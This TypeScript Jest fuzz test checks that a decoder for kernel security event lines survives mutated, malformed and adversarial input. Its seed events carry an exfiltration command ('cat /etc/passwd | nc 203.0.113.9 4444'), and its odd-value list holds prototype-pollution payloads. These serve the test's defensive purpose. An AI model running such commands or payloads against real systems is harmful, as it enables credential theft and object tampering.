import { describe, expect, it } from '@jest/globals';
import { aLine, type EventKind } from '@tetrascope/contracts/testing';
import { existsSync, readFileSync } from 'node:fs';
import { isDeepStrictEqual } from 'node:util';
import { compactLine, decodeLine, describeEvent } from './index.ts';

/** Seven kinds of mutation, 105 000 lines in all. */
const runsPerMutation = 15_000;

const kinds: readonly EventKind[] = [
  'exec',
  'exit',
  'kprobe',
  'tracepoint',
  'loader',
  'uprobe',
  'throttle',
  'lsm',
  'usdt',
  'test',
  'rate_limit_info',
];

const ownLines = [
  ...kinds.map((kind) => aLine({ kind, arguments: '-c "cat /etc/passwd | nc 203.0.113.9 4444"' })),
  aLine({ kind: 'kprobe', functionName: 'tcp_connect', capabilities: ['CAP_SYS_ADMIN'] }),
  aLine({
    kind: 'kprobe',
    functionName: '__x64_sys_mount',
    args: [{ string_arg: '/dev/sda' }, { string_arg: '/mnt' }],
  }),
  aLine({ kind: 'kprobe', functionName: 'bpf_check', args: [{ bpf_attr_arg: { ProgType: 'KPROBE', InsnCnt: 7 } }] }),
  aLine({ kind: 'kprobe', functionName: 'security_mmap_file', args: [{ file_arg: { path: '/x' } }, { uint_arg: 5 }] }),
  aLine({ kind: 'exit', signal: 'SIGKILL', binary: '/usr/bin/貓', pod: '' }),
];

const realFile = new URL('../../../../shared/tetragon/events/real.ndjson', import.meta.url);
const realLines = existsSync(realFile) ? readFileSync(realFile, 'utf8').trimEnd().split('\n') : [];
if (realLines.length === 0) console.warn('Only our own events are mutated: the folder ../shared is absent.');

const seeds = [...ownLines, ...realLines].map((line) => Buffer.from(line));

/** Mulberry32: numbers from 0 up to `below`, the same on every run. */
function dice(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32) * below);
  };
}

type Roll = (below: number) => number;
type Mutation = (line: Buffer, roll: Roll) => Buffer;

const anySeed = (roll: Roll): Buffer => seeds[roll(seeds.length)] ?? Buffer.alloc(0);

const insert = (line: Buffer, at: number, what: Buffer): Buffer =>
  Buffer.concat([line.subarray(0, at), what, line.subarray(at)]);

/** Values that are legal JSON and no event's: wrong kinds, out of range, names of the language. */
const oddValues = [
  '1e999',
  '-1',
  '1.5',
  '"52699"',
  'null',
  'true',
  '[]',
  '{}',
  '[null,1,{"file_arg":3}]',
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '"\\ud800"',
  '"\\u0000\\u001b[2J"',
  '99999999999999999999999999',
  '-0',
  '""',
  '" "',
];

/** Puts an odd value in place of one of the line's scalars. */
const replaceValue: Mutation = (line, roll) => {
  const scalars = [...line.toString().matchAll(/:("(?:[^"\\]|\\.)*"|-?\d+|true|false)/g)];
  const chosen = scalars[roll(scalars.length)];
  const odd = oddValues[roll(oddValues.length)] ?? 'null';
  if (chosen === undefined) return line;
  const text = line.toString();
  return Buffer.from(`${text.slice(0, chosen.index + 1)}${odd}${text.slice(chosen.index + chosen[0].length)}`);
};

const mutations: Readonly<Record<string, Mutation>> = {
  'flipped bits': (line, roll) => {
    const out = Buffer.from(line);
    for (let count = 1 + roll(6); count > 0; count--) {
      const at = roll(out.length);
      out[at] = (out[at] ?? 0) ^ (1 << roll(8));
    }
    return out;
  },
  cuts: (line, roll) => {
    const [a, b] = [roll(line.length), roll(line.length)];
    return roll(2) === 0
      ? line.subarray(0, a)
      : Buffer.concat([line.subarray(0, Math.min(a, b)), line.subarray(Math.max(a, b))]);
  },
  splices: (line, roll) => {
    const other = anySeed(roll);
    return Buffer.concat([line.subarray(0, roll(line.length)), other.subarray(roll(other.length))]);
  },
  'deep nests': (line, roll) => {
    const depth = 1 + roll(200);
    const [open, close] = roll(2) === 0 ? ['[', ']'] : ['{"a":', '}'];
    const nest = `${open.repeat(depth)}${open === '[' ? '' : '0'}${close.repeat(roll(10) === 0 ? depth - 1 : depth)}`;
    return Buffer.from(line.toString().replace(/:"/, () => `:${nest},"x":"`));
  },
  'random insertions': (line, roll) => {
    const highest = roll(2) === 0 ? 128 : 256;
    const bytes = Buffer.from(Array.from({ length: 1 + roll(12) }, () => roll(highest)));
    return insert(line, roll(line.length + 1), bytes);
  },
  'inserted tokens': (line, roll) => {
    const tokens = [
      '"',
      '{',
      '}',
      '[',
      ']',
      ',',
      ':',
      '\\',
      '\\u00',
      '\n',
      '\r\n',
      '\ufeff',
      ' ',
      '\0',
      '"__proto__":{},',
    ];
    const ends = [0, line.length];
    const at = roll(3) === 0 ? (ends[roll(2)] ?? 0) : roll(line.length + 1);
    return insert(line, at, Buffer.from(tokens[roll(tokens.length)] ?? ''));
  },
  'odd values': (line, roll) => {
    let out = line;
    for (let count = 1 + roll(4); count > 0; count--) out = replaceValue(out, roll);
    return out;
  },
};

/** What is wrong with what became of the bytes; null where all promises are kept. */
function fault(bytes: Buffer): string | null {
  const result = decodeLine(bytes);
  if ('code' in result)
    return result.reason.length > 0 && result.reason.length < 1000 ? null : 'a reject without a reason';
  const { raw, payload, view } = result;
  const inside = raw.buffer === bytes.buffer && raw.byteOffset >= bytes.byteOffset;
  if (!inside || raw.byteOffset + raw.length > bytes.byteOffset + bytes.length) return 'raw is not a part of the line';
  const text = Buffer.from(raw.buffer, raw.byteOffset, raw.length).toString();
  if (!text.startsWith('{') || !text.endsWith('}')) return 'raw is not from { to }';
  if (!isDeepStrictEqual(JSON.parse(text), payload)) return 'raw is another object than the payload';
  const compact = compactLine(view);
  if (/[\p{Cc}\p{Zl}\p{Zp}]/u.test(compact)) return 'the compact line holds a control character';
  const { zh_TW, en } = describeEvent(view);
  return /[\p{Cc}]/u.test(zh_TW + en) || zh_TW === '' || en === ''
    ? 'a description is empty or holds a control character'
    : null;
}

describe('decoding, compacting and describing survive', () => {
  it.each(Object.entries(mutations))(`${runsPerMutation} lines with %s`, (name, mutate) => {
    const roll = dice(name.length * 7919);
    const faults: string[] = [];
    for (let run = 0; run < runsPerMutation && faults.length < 5; run++) {
      const bytes = mutate(anySeed(roll), roll);
      try {
        const found = fault(bytes);
        if (found !== null) faults.push(`${found}: ${bytes.toString()}`);
      } catch (error) {
        faults.push(`threw ${String(error)}: ${bytes.toString()}`);
      }
    }
    expect(faults).toEqual([]);
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });

  it('all single bytes, and bytes of no text at all', () => {
    const roll = dice(4);
    const singles = Array.from({ length: 256 }, (_, byte) => Buffer.from([byte]));
    const noise = Array.from({ length: 2000 }, () => Buffer.from(Array.from({ length: roll(64) }, () => roll(256))));
    for (const bytes of [...singles, ...noise]) expect(fault(bytes)).toBeNull();
  });
});
